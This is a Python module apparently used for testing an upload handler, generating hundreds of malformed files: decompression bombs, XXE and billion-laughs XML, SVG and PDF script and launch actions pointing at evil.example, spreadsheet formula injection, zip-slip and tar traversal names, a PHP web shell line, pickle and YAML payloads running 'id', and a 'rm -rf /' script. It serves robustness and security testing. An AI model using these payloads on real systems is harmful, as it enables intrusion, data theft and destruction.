"""Files that nobody made to be opened: by name, each made here from a seed, none larger than a few megabytes."""

import gzip
import io
import json
import lzma
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache

from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject

Made = Iterator[tuple[str, bytes]]
MB = 2**20
SCRIPT = b"<script>fetch('/office/')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" %s>%s</svg>'
LAUGHS = b"".join(
    [b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">']
    + [b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)]
    + [b"]>"]
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
SHEET_NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATED_NS = b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
# What a person or a program may call a file.
NAMES = (
    "照片.jpg",
    "../../../etc/passwd",
    "..\\..\\boot.ini",
    "/etc/shadow",
    "C:\\x\\a.exe",
    "CON",
    "a.jpg/",
    ".htaccess",
    "bill\u202egpj.exe",
    "x" * 3000 + ".csv",
    "=cmd|' /C calc'!A0.xlsx",
    "<script>alert(1)</script>.png",
    "a.csv;.jpg",
    "%2e%2e%2f%2e%2e%2fa.xlsx",
    "表.xlsx",
    "名单.csv",
    "年.json",
    "结果.pdf",
    "档案.zip",
    "a.php.jpg",
    "\ufeff.txt",
    "a%00.png",
    "\u0430.xls",
    "🐛.webp",
    "x.svg",
    " .csv",
    "....",
    "nul.xlsx",
    "a'b\"c.csv",
    "a.tsv",
)


@cache
def hostile() -> dict[str, bytes]:
    """At least 300 of them."""
    kinds = (
        _pictures,
        _lying_pictures,
        _exif,
        _both,
        _other_pictures,
        _heif,
        _pdf,
        _books,
        _packages,
        _tables,
        _rest,
    )
    made = [one for kind in kinds for one in kind()]
    assert len(made) == len({name for name, _data in made}), "two of one name"
    return dict(made)


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **how: object) -> bytes:
    """A whole picture with something in it."""
    made, out = Image.new("RGB", size, "navy"), io.BytesIO()
    ImageDraw.Draw(made).ellipse((1, 1, size[0] - 2, size[1] - 3), fill="orange")
    made.save(out, kind, **how)
    return out.getvalue()


def zipped(parts: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of these."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return out.getvalue()


def book(sheet: bytes = b"", **parts: bytes) -> bytes:
    """A workbook with this sheet, as small as readers take it; `parts` replace others of it."""
    related = b'<Relationships %s><Relationship Id="r1" Type="%s/%s" Target="%s"/></Relationships>'
    sheets = b'<sheets><sheet name="survey" sheetId="1" r:id="r1"/></sheets>'
    whole = {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": related % (RELATED_NS, OFFICE, b"officeDocument", b"xl/workbook.xml"),
        "xl/workbook.xml": b'<workbook %s xmlns:r="%s">%s</workbook>' % (SHEET_NS, OFFICE, sheets),
        "xl/_rels/workbook.xml.rels": related % (RELATED_NS, OFFICE, b"worksheet", b"worksheets/sheet1.xml"),
        "xl/worksheets/sheet1.xml": sheet or rows(b'<c r="A1" t="inlineStr"><is><t>x</t></is></c>'),
    }
    named = {
        "workbook": "xl/workbook.xml",
        "texts": "xl/sharedStrings.xml",
        "styles": "xl/styles.xml",
        "types": "[Content_Types].xml",
    }
    return zipped(whole | {named.get(name, name): data for name, data in parts.items()})


def rows(*cells: bytes) -> bytes:
    """A sheet with these rows of cells."""
    told = b"".join(b'<row r="%d">%s</row>' % (at, cell) for at, cell in enumerate(cells, start=1))
    return b"<worksheet %s><sheetData>%s</sheetData></worksheet>" % (SHEET_NS, told)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """A part of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *chunks: bytes, depth: int = 1, kind: int = 0) -> bytes:
    """A PNG that says it is so large; its lines, if any, stand in `chunks`."""
    head = struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + b"".join(chunks) + png_chunk(b"IEND", b"")


def scans(size: int, times: int) -> bytes:
    """A JPEG whose last pass over the picture comes again and again: small to send, long to read."""
    out = io.BytesIO()
    Image.new("RGB", (size, size), "navy").save(out, "JPEG", progressive=True)
    made = out.getvalue()
    last = made.rindex(b"\xff\xda")
    return made[:last] + made[last:-2] * times + b"\xff\xd9"


def box(name: bytes, data: bytes = b"", size: int | None = None) -> bytes:
    """A box of a HEIC."""
    return struct.pack(">I", len(data) + 8 if size is None else size) + name + data


def heic(brand: bytes = b"heic") -> bytes:
    """A HEIC by its boxes, with nothing in it that could be decoded."""
    return box(b"ftyp", brand + bytes(4) + b"mif1heic") + box(b"meta", bytes(40)) + box(b"mdat", bytes(900))


def _pictures() -> Made:
    """Cut and broken."""
    dice = random.Random(16)
    for kind in ("JPEG", "PNG", "WEBP"):
        data = picture(kind)
        for share in (1, 2, 5, 10, 25, 50, 75, 90, 97, 99):
            yield f"{kind} cut at {share} percent", data[: len(data) * share // 100]
        for turn in range(15):
            yield f"{kind} broken {turn}", _broken(dice, data)
    progressive = picture("JPEG", progressive=True)
    for turn in range(6):
        yield f"progressive JPEG broken {turn}", _broken(dice, progressive)
    yield "JPEG read sixty times over", scans(1600, 60)
    yield "JPEG without an end", progressive[:-2]


def _broken(dice: random.Random, data: bytes) -> bytes:
    spoilt = bytearray(data)
    for _ in range(dice.randrange(1, 9)):
        spoilt[dice.randrange(2, len(spoilt))] = dice.randrange(256)
    return bytes(spoilt)


def _lying_pictures() -> Made:
    """That say they are another size than they are, or unpack to more."""
    for width, height in (
        (0, 0),
        (0, 9),
        (60_000, 60_000),
        (2**31 - 1, 2**31 - 1),
        (1, 2**31 - 1),
        (2**31, 1),
        (9000, 9000),
    ):
        yield f"PNG of {width} by {height}", png(width, height, png_chunk(b"IDAT", zlib.compress(bytes(99))))
    data = picture("JPEG")
    at = data.index(b"\xff\xc0") + 5
    for size in ((0, 0), (65_535, 65_535), (1, 65_535), (8000, 8000)):
        yield f"JPEG of {size}", data[:at] + struct.pack(">HH", *size) + data[at + 4 :]
    for sampling in (b"\0", b"\xff", b"\x44"):
        yield f"JPEG sampled {sampling.hex()}", data[: at + 6] + sampling + data[at + 7 :]
    web = picture("WEBP", lossless=True)
    wide = b"VP8X" + struct.pack("<I", 10) + bytes(4) + b"\xff" * 6 + web[12:]
    yield "WEBP of 16 million by 16 million", b"RIFF" + struct.pack("<I", len(wide) + 4) + b"WEBP" + wide
    yield "WEBP that says it is endless", web[:4] + b"\xff\xff\xff\xff" + web[8:]
    yield "PNG of one colour, 30 million", png(6000, 5000, png_chunk(b"IDAT", _packed((1 + 750) * 5000)))
    yield "PNG of more lines than it says", png(8, 8, png_chunk(b"IDAT", _packed(20 * MB)))
    yield (
        "PNG with colours that are not there",
        png(8, 8, png_chunk(b"IDAT", zlib.compress(b"\0\xff" * 8 * 2)), depth=8, kind=3),
    )
    for name, head in ((b"zTXt", b"a\0\0"), (b"iTXt", b"a\0\1\0\0\0"), (b"iCCP", b"a\0\0")):
        bomb = png_chunk(name, head + _packed(60 * MB))
        yield f"PNG with a {name.decode()} of 60 MB", png(8, 8, bomb, png_chunk(b"IDAT", _packed(16)))
    film = png_chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))
    yield "PNG of two thousand million turns", png(8, 8, film, png_chunk(b"IDAT", _packed(16)))
    yield "PNG without its lines", png(8, 8)
    yield "PNG with a part too long", png(8, 8, b"\x7f\xff\xff\xffIDATxxxx")
    yield "PNG of 20,000 parts", png(8, 8, *[png_chunk(b"tEXt", b"a\0b")] * 20_000)


def _packed(size: int) -> bytes:
    return zlib.compress(bytes(size), 1)


def _exif() -> Made:
    """What a picture says of itself."""
    for turned in (0, 3, 9, 255, 65_535):
        yield f"EXIF turned {turned}", _with_exif(_tiff((0x0112, 3, 1, turned)))
    lies = {
        "a turn that is text": _tiff((0x0112, 2, 4, 0x41414141)),
        "a turn without an end": _tiff((0x0112, 3, 2**32 - 1, 8)),
        "a list of itself": _tiff((0x8769, 4, 1, 8)),
        "a place of itself": _tiff((0x8825, 4, 1, 8)),
        "a list far away": b"Exif\0\0II*\0" + struct.pack("<I", 2**32 - 2),
        "sixty thousand entries": b"Exif\0\0II*\0\x08\0\0\0" + b"\xff\xff" + b"\x12\x01\x03\0" * 9000,
        "a number over nothing": _tiff((0x829A, 5, 1, 26)) + bytes(8),
        "a kind that is none": _tiff((0x0112, 77, 1, 6)),
        "another picture in it": _tiff((0x0201, 4, 1, 50), (0x0202, 4, 1, 2**31)) + picture("JPEG", (8, 8)),
        "nothing": b"Exif\0\0",
        "half a head": b"Exif\0\0II",
        "big ends of little ones": b"Exif\0\0MM\0*" + _tiff((0x0112, 3, 1, 6))[10:],
        "text that is none": _tiff((0x010E, 2, 40, 8)) + b"\xff\xfe\0\xd8" * 10,
    }
    for name, exif in lies.items():
        yield f"EXIF with {name}", _with_exif(exif)
    for kind in ("PNG", "WEBP"):
        yield f"{kind} with a list of itself", picture(kind, exif=lies["a list of itself"])
    about = b"http://ns.adobe.com/xap/1.0/\0"
    yield "XMP that unfolds", _with_exif(about + LAUGHS + b"<x>&a9;</x>")
    yield "XMP of a stranger's file", _with_exif(about + OUTSIDE + b"<x>&a;</x>")
    yield "colours that are none", picture("JPEG", icc_profile=b"\0" * 500)


def _tiff(*entries: tuple[int, int, int, int]) -> bytes:
    told = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + told + bytes(4)


def _with_exif(exif: bytes) -> bytes:
    data = picture("JPEG")
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + data[2:]


def _both() -> Made:
    """Two kinds in one file."""
    tails = {
        "a page": b"<!doctype html>" + SCRIPT,
        "a package": zipped({"a.html": SCRIPT}),
        "a workbook": book(),
        "a PDF": _document(),
        "a program": b"MZ" + bytes(400),
        "a script": b"\n#!/bin/sh\nid\n",
        "a film": box(b"ftyp", b"isom") + box(b"moov", bytes(50)),
    }
    for kind in ("JPEG", "PNG", "WEBP"):
        for name, tail in tails.items():
            yield f"{kind} and {name}", picture(kind) + tail
    data = picture("JPEG")
    for name, inside in (
        ("a page", SCRIPT),
        ("PHP", b"<?php system($_GET[0]); ?>"),
        ("a PDF", b"%PDF-1.4\n1 0 obj<<>>endobj"),
    ):
        comment = b"\xff\xfe" + struct.pack(">H", len(inside) + 2) + inside
        yield f"JPEG with {name} as its comment", data[:2] + comment + data[2:]
    yield "PDF before JPEG", b"%PDF-1.4\n" + data
    yield "PDF before a workbook", b"%PDF-1.4\n" + book()
    yield "package before JPEG", zipped({"a": b"b"}) + data
    yield "page before JPEG", SCRIPT + data
    yield "GIF that is a script", b"GIF89a=1;alert(1)//" + bytes(20)
    yield (
        "GIF and Java",
        picture("GIF") + zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
    )
    yield "a workbook in name alone", b"PK\x03\x04 xl/workbook.xml " + SCRIPT


def _other_pictures() -> Made:
    """Of kinds that are not taken, drawings that act before all."""
    for kind in (
        "GIF",
        "BMP",
        "TIFF",
        "ICO",
        "PPM",
        "PCX",
        "TGA",
        "EPS",
        "JPEG2000",
        "ICNS",
        "DDS",
        "SGI",
        "MPO",
        "AVIF",
        "PDF",
    ):
        try:
            yield f"{kind} picture", picture(kind)
        except (OSError, KeyError):
            yield f"{kind} picture", kind.encode() + bytes(99)
    acting = {
        "a script": (b"", SCRIPT),
        "an act of its own": (b'onload="alert(1)"', b""),
        "another's picture": (b"", b'<image xlink:href="http://169.254.169.254/"/>'),
        "a page in it": (b"", b'<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>'),
        "a link that acts": (b"", b'<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
        "itself": (b"", b'<g id="a"><use xlink:href="#a"/></g>'),
        "a style from elsewhere": (b"", b"<style>@import url(http://evil.example/)</style>"),
    }
    for name, (about, inside) in acting.items():
        yield f"drawing with {name}", SVG % (about, inside)
    yield "drawing that unfolds", LAUGHS + SVG % (b"", b"<text>&a9;</text>")
    yield "drawing of a stranger's file", OUTSIDE + SVG % (b"", b"<text>&a;</text>")
    yield "drawing, packed", gzip.compress(SVG % (b"", SCRIPT))
    yield "drawing of 100,000 levels", SVG % (b"", b"<g>" * 100_000)
    yield "drawing called WEBP", b"RIFF\x10\0\0\0WEBP" + SVG % (b"", SCRIPT)
    yield "PostScript that deletes", b"%!PS-Adobe-3.0 EPSF\n(/etc/passwd) deletefile showpage"
    yield (
        "ImageMagick's own words",
        b"push graphic-context\nfill 'url(https://x\"|id\")'\npop graphic-context",
    )


def _heif() -> Made:
    """Boxes that are none, or go on for ever."""
    for brand in (b"heic", b"heix", b"mif1", b"msf1", b"avif", b"mp42", b"qt  ", b"\0\0\0\0"):
        yield f"HEIC of the brand {brand!r}", heic(brand)
    whole = heic()
    yield "HEIC cut", whole[:-100]
    yield "HEIC with a page behind", whole + SCRIPT
    yield "HEIC with a package behind", whole + zipped({"a": SCRIPT})
    yield "HEIC without its list", box(b"ftyp", b"heic" + bytes(8)) + box(b"mdat", SCRIPT)
    yield "HEIC whose box is nothing", box(b"ftyp", b"heic", 0)
    yield "HEIC whose box is shorter than its head", box(b"ftyp", b"heic", 3) + box(b"meta")
    yield "HEIC whose box is larger than all", box(b"ftyp", b"heic", 2**32 - 1)
    yield "HEIC of a wide box", struct.pack(">I4sQ", 1, b"ftyp", 2**63) + b"heic"
    yield "HEIC of 20,000 boxes", box(b"ftyp", b"heic" + bytes(8)) + box(b"free") * 20_000 + box(b"meta")
    yield "HEIC in another's place", b"heic" + whole[4:]


def _document(**catalogue: object) -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(100, 100)
    writer.root_object.update({NameObject("/" + name): value for name, value in catalogue.items()})
    writer.write(out)
    return out.getvalue()


def _act(**said: object) -> DictionaryObject:
    return DictionaryObject({NameObject("/" + name): value for name, value in said.items()})


def _pdf() -> Made:
    """That act, that turn in circles, that are broken."""
    text = TextStringObject
    acts = {
        "a script": _act(S=NameObject("/JavaScript"), JS=text("app.alert(1)")),
        "a program": _act(S=NameObject("/Launch"), F=text("cmd.exe")),
        "an address": _act(S=NameObject("/URI"), URI=text("http://evil.example")),
        "a form to send": _act(S=NameObject("/SubmitForm"), F=text("http://evil.example")),
        "another's file": _act(S=NameObject("/GoToR"), F=text("\\\\evil.example\\a.pdf")),
        "data to take in": _act(S=NameObject("/ImportData"), F=text("/etc/passwd")),
        "a film": _act(S=NameObject("/Rendition")),
    }
    for name, act in acts.items():
        yield f"PDF that opens {name}", _document(OpenAction=act)
    yield "PDF with a form of another kind", _document(AcroForm=_act(XFA=ArrayObject([text("x")])))
    yield (
        "PDF with names of scripts",
        _document(Names=_act(JavaScript=_act(Names=ArrayObject([text("a"), acts["a script"]])))),
    )
    plain = _document()
    yield (
        "PDF in other letters",
        _document(OpenAction=acts["a script"]).replace(b"/JavaScript", b"/J#61vaScript"),
    )
    for share in (5, 30, 60, 95):
        yield f"PDF cut at {share} percent", plain[: len(plain) * share // 100]
    dice = random.Random(8)
    for turn in range(10):
        yield f"PDF broken {turn}", b"%PDF-" + _broken(dice, plain)[5:]
    yield "PDF whose pages are their own parents", plain.replace(b"/Kids [ 4 0 R ]", b"/Kids [ 2 0 R ]")
    yield "PDF whose table is itself", plain.replace(b"startxref", b"startxref\n0\n%%EOF\nstartxref")
    yield "PDF before the table before itself", plain.replace(b"trailer\n<<", b"trailer\n<<\n/Prev 9")
    yield "PDF of 90,000 brackets", plain.replace(b"trailer", b"9 0 obj" + b"[" * 90_000 + b"endobj\ntrailer")
    yield "PDF of nothing", b"%PDF-1.7"
    yield "PDF in the middle", b"x" * 1020 + plain
    yield "PDF with a stream of 60 MB", _with_stream(bytes(60 * MB))
    yield "PDF with a stream in a stream", _with_stream(zlib.compress(bytes(60 * MB)), "/FlateDecode")
    locked = PdfWriter()
    locked.add_blank_page(9, 9)
    locked.encrypt("x", algorithm="RC4-128")
    out = io.BytesIO()
    locked.write(out)
    yield "PDF with a lock", out.getvalue()


def _with_stream(data: bytes, more: str = "") -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(9, 9)
    stream = StreamObject()
    stream.set_data(data)
    stream[NameObject("/Type")] = NameObject("/ObjStm")
    packed = stream.flate_encode()
    if more:
        packed[NameObject("/Filter")] = ArrayObject([NameObject("/FlateDecode"), NameObject(more)])
    writer._add_object(packed)
    writer.write(out)
    return out.getvalue()


def _books() -> Made:
    """Workbooks that unfold, reach out, or say what is not so."""
    cell = b'<c r="A1" t="str"><v>x</v></c>'
    for name in ("workbook", "texts", "styles", "types"):
        yield f"workbook whose {name} unfolds", book(**{name: LAUGHS + b"<x>&a9;</x>"})
        yield f"workbook whose {name} is a stranger's file", book(**{name: OUTSIDE + b"<x>&a;</x>"})
    yield "workbook whose sheet unfolds", book(LAUGHS + rows(b"<c><v>&a9;</v></c>"))
    yield "workbook whose sheet is a stranger's file", book(OUTSIDE + rows(b"<c><v>&a;</v></c>"))
    formulas = (
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example",1)',
        '=WEBSERVICE("http://evil.example")',
        "@SUM(1)",
        "+1+cmd",
        "-2+3",
    )
    for at, formula in enumerate(formulas):
        told = formula.replace("&", "&amp;").encode()
        yield (
            f"workbook that says {at} {formula}",
            book(rows(b'<c r="A1"><f>%s</f><v>%s</v></c>' % (told[1:], told))),
        )
    outside = b'<externalLink %s><externalBook r:id="r1"/></externalLink>' % SHEET_NS
    yield "workbook of another workbook", book(**{"xl/externalLinks/externalLink1.xml": outside})
    for where in (b"XFD1048576", b"ZZZZ9", b"A0", b"A-1", b"A99999999999", b"1A", b"$A$1"):
        yield f"workbook with a cell at {where.decode()}", book(rows(b'<c r="%s"><v>1</v></c>' % where))
    yield (
        "workbook with a row far down",
        book(
            b'<worksheet %s><sheetData><row r="4294967295">%s</row></sheetData></worksheet>'
            % (SHEET_NS, cell)
        ),
    )
    yield (
        "workbook that says it is all",
        book(
            b'<worksheet %s><dimension ref="A1:XFD1048576"/><sheetData><row>%s</row></sheetData></worksheet>'
            % (SHEET_NS, cell)
        ),
    )
    yield "workbook of texts that are not there", book(rows(b'<c r="A1" t="s"><v>4000000000</v></c>'))
    yield "workbook of a text below nothing", book(rows(b'<c r="A1" t="s"><v>-1</v></c>'))
    yield "workbook of 300,000 cells", book(rows(cell * 300_000))
    yield "workbook of 200,000 rows", book(rows(*[cell] * 200_000))
    yield "workbook of 100,000 levels", book(b"<worksheet %s>" % SHEET_NS + b"<a>" * 100_000)
    yield "workbook of one text of 30 MB", book(rows(b'<c r="A1" t="str"><v>' + b"x" * 30 * MB + b"</v></c>"))
    yield "workbook of 30 MB of blanks", book(b"<worksheet %s>" % SHEET_NS + b" " * 30 * MB)
    yield (
        "workbook of merged cells",
        book(
            rows(cell).replace(
                b"</sheetData>",
                b"</sheetData><mergeCells>" + b'<mergeCell ref="A1:XFD1048576"/>' * 9000 + b"</mergeCells>",
            )
        ),
    )
    yield (
        "workbook with odd times",
        book(rows(b'<c r="A1" t="d"><v>9999-99-99</v></c><c r="B1" s="9"><v>1e308</v></c>')),
    )
    yield (
        "workbook with a number that is none",
        book(rows(b'<c r="A1"><v>0x1F</v></c><c r="B1" t="b"><v>7</v></c>')),
    )
    yield "workbook without a sheet", zipped({"xl/workbook.xml": b"<workbook/>"})
    yield "workbook in UTF-16", book('<?xml version="1.0" encoding="UTF-16"?><worksheet/>'.encode("utf-16"))
    yield "workbook in letters that are none", book(rows(b"<c><v>\xff\xfe\xfd</v></c>"))
    yield "workbook with a program", book(**{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(900)})
    yield "workbook that is not closed", book()[:-22]
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    yield "workbook of long ago", old + bytes(2000)
    yield "workbook with a lock", old + bytes(500) + "EncryptedPackage".encode("utf-16-le")
    yield "document, not workbook", zipped({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<t/>"})


def _packages() -> Made:
    """ZIP files: of much, of names that lead out, of lies."""
    for name in (
        "../../etc/cron.d/x",
        "/etc/passwd",
        "C:\\x",
        "a/../../b",
        "a\\..\\b",
        ".",
        "x" * 60_000,
        "\u202e",
        "a\nb",
        "CON",
    ):
        yield f"package with the name {name[:20]!r}", zipped({name: b"x", "xl/workbook.xml": b"<x/>"})
    yield (
        "package of 60 MB of nothing",
        zipped({"xl/workbook.xml": b"<x/>", "xl/worksheets/sheet1.xml": bytes(60 * MB)}),
    )
    yield (
        "package in a package in a package",
        zipped({"a.zip": zipped({"b.zip": zipped({"c": bytes(9 * MB)})})}),
    )
    for name, how in (("BZIP2", zipfile.ZIP_BZIP2), ("LZMA", zipfile.ZIP_LZMA)):
        yield (
            f"package by {name}",
            zipped({"xl/workbook.xml": b"<x/>", "xl/worksheets/sheet1.xml": bytes(9 * MB)}, how),
        )
    whole = book(rows(b"<c><v>%s</v></c>" % (b"7" * 20 * MB)))
    yield "package that says it is small", _resized(whole, 10)
    yield "package that says it is endless", _resized(whole, 2**32 - 2)
    twice, out = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(twice, "w") as made:
        made.writestr("xl/workbook.xml", b"<workbook/>")
        made.fp.write(b"") if made.fp else None
        made.filelist.append(made.filelist[0])
    yield "package of the same twice", twice.getvalue()
    with zipfile.ZipFile(out, "w") as made:
        link = zipfile.ZipInfo("xl/workbook.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        made.writestr(link, b"/etc/passwd")
    yield "package of a link", out.getvalue()
    locked = bytearray(zipped({"xl/workbook.xml": b"<x/>"}))
    locked[6] |= 1
    locked[bytes(locked).rindex(b"PK\1\2") + 8] |= 1
    yield "package with a lock", bytes(locked)
    yield "package of 15,000 parts", zipped({f"{n}": b"" for n in range(15_000)}, zipfile.ZIP_STORED)
    for share in (3, 40, 98):
        yield f"package cut at {share} percent", (data := book())[: len(data) * share // 100]
    dice = random.Random(4)
    for turn in range(12):
        yield f"package broken {turn}", b"PK" + _broken(dice, book())[2:]
    yield "package of its end alone", b"PK\5\6" + bytes(18)
    yield "package whose end lies", b"PK\5\6" + b"\xff" * 18
    bag = {
        "bagit.txt": b"BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n",
        "manifest-sha256.txt": b"0" * 64 + b"  data/../../x\n",
    }
    yield "archive with a name that leads out", zipped(bag | {"data/x": b"x"}, zipfile.ZIP_STORED)
    yield (
        "archive of a manifest without end",
        zipped(bag | {"manifest-sha256.txt": b"0" * 5 * MB}, zipfile.ZIP_STORED),
    )


def _resized(data: bytes, size: int) -> bytes:
    """The same ZIP, each part said to unpack to `size` bytes."""
    spoilt, at = bytearray(data), -1
    for sign, place in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        while (at := bytes(spoilt).find(sign, at + 1)) >= 0:
            struct.pack_into("<I", spoilt, at + place, size)
    return bytes(spoilt)


def _tables() -> Made:
    """Text with commas in it."""
    head = "姓名,用户名,角色\n"
    for at, start in enumerate(
        ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "=cmd|' /C calc'!A0", "%0A=1")
    ):
        yield f"table that says {at} {start!r}", f'{head}"{start}","{start}",检查员\n'.encode()
    yield "table of one line of 9 MB", b"x" * 9 * MB
    yield "table of commas", b"," * 3 * MB
    yield "table with an open quote", head.encode() + b'"' + b"x\n" * MB
    yield "table of empty lines", b"\n" * 2 * MB
    yield "table of a return for each line", head.replace("\n", "\r").encode() * 900
    yield "table with nothing in its signs", head.encode() + b"\0" * 900
    for name in ("utf-16", "utf-32", "utf-7", "big5", "shift_jis"):
        yield f"table in {name}", (head + "张三,zhangsan,检查员\n").encode(name, "replace")
    yield "table in no letters", head.encode() + bytes(range(128, 256)) * 40
    yield "table in half a letter", head.encode("gb18030") + b"\x81"
    yield "table with signs that turn", f"{head}\u202e三张,\u2066x\u2069,\ufeff检查员\u200b\n".encode()
    yield "table of 40,000 columns", (",".join(["列"] * 40_000) + "\n").encode()
    yield "table of numbers without end", (head + "9" * 900_000 + ",1e999,nan\n").encode()
    yield "table of 100,000 rows", (head + "张三,zhangsan,检查员\n" * 100_000).encode()[: 4 * MB]


def _rest() -> Made:
    """Programs, scripts, other packages, other texts, nothing."""
    yield "nothing", b""
    yield "a byte", b"\0"
    for name, sign in (
        ("JPEG", b"\xff\xd8\xff"),
        ("PNG", b"\x89PNG\r\n\x1a\n"),
        ("WEBP", b"RIFF\0\0\0\0WEBP"),
        ("package", b"PK\3\4"),
        ("old book", b"\xd0\xcf\x11\xe0"),
    ):
        yield f"{name} by its first bytes", sign
        yield f"{name} and zeros", sign + bytes(2000)
    yield "zeros", bytes(MB)
    yield "noise", random.Random(1).randbytes(MB)
    yield "a program for Windows", b"MZ\x90\0" + bytes(900)
    yield "a program for Linux", b"\x7fELF\2\1\1" + bytes(900)
    yield "a script", b"#!/bin/sh\nrm -rf /\n"
    yield "a page", b"<!doctype html><title>x</title>" + SCRIPT
    yield "a page in UTF-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "XML that unfolds", LAUGHS + b"<x>&a9;</x>"
    yield "XML of a stranger's file", OUTSIDE + b"<x>&a;</x>"
    yield "EICAR's test", rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    yield "a pickle", b"cos\nsystem\n(S'id'\ntR."
    yield "gzip of 60 MB", gzip.compress(bytes(60 * MB), 1)
    yield "xz of 60 MB", lzma.compress(bytes(60 * MB), preset=0)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as made:
        made.addfile(tarfile.TarInfo("../../etc/passwd"))
    yield "a tar that leads out", out.getvalue()
    yield "JSON of 50,000 levels", b"[" * 50_000 + b"]" * 50_000
    yield "JSON of half a letter", b'{"year": "\\ud800"}'
    yield "JSON of numbers that are none", b'{"year": NaN, "days": Infinity}'
    yield "JSON of a number without end", b'{"year": ' + b"9" * 9000 + b"}"
    yield "JSON of the same name twice", b'{"year": 2027, "year": 2028}'
    yield "JSON of a name that is ours", json.dumps({"__proto__": {"admin": True}, "year": 2027}).encode()
    yield "YAML that makes objects", b"!!python/object/apply:os.system ['id']"
    yield "LaTeX that reads", rb"\input{/etc/passwd}\write18{id}"
    yield "a film", box(b"ftyp", b"isom" + bytes(8)) + box(b"moov", bytes(90))
    yield "a font", b"\0\1\0\0" + bytes(300)
